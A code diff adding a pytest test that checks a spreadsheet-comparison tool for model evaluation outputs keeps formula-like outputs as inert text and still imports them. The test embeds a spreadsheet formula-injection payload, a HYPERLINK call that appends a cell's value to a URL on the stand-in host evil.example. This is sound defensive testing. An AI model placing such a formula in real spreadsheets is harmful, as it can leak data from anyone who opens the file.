@@ -245,3 +245,29 @@ def test_import_refuses_a_copy_of_another_sheet_and_bad_cells(tmp_path):
     with pytest.raises(DataError, match="no 'Preference' column"):
         (tmp_path / "x.csv").write_text("Item,Input\n001,hi\n", encoding="utf-8")
         import_sheet(run, tmp_path / "x.csv")
+
+
+def test_outputs_that_look_like_formulas_stay_text_and_still_import(tmp_path):
+    from openpyxl import load_workbook
+
+    run = make_run(tmp_path / "run", n=3)
+    attack = '=HYPERLINK("http://evil.example/?"&B2,"click")'
+    for name in ("tuned.jsonl", "base.jsonl"):
+        path = run / "eval" / name
+        rows = [json.loads(x) for x in path.read_text().splitlines()]
+        for r in rows:
+            r["output"] = attack if name == "tuned.jsonl" else "-1 row"
+        path.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    build_sheet(run, n=3)
+    ws = load_workbook(run / COMPARE_DIR / SHEET_XLSX_FILE).active
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row[2:4]]
+    assert {c.value for c in cells} == {attack, "-1 row"} and {c.data_type for c in cells} == {"s"}
+    with open(run / COMPARE_DIR / SHEET_CSV_FILE, encoding="utf-8-sig", newline="") as f:
+        table = list(csv.reader(f))
+    assert {c for row in table[1:] for c in row[2:4]} == {"'" + attack, "'-1 row"}
+    for row in table[1:]:
+        row[4] = "tie"
+    filled = tmp_path / "fay.csv"
+    with open(filled, "w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows(table)
+    assert import_sheet(run, filled) == ("fay", 3)
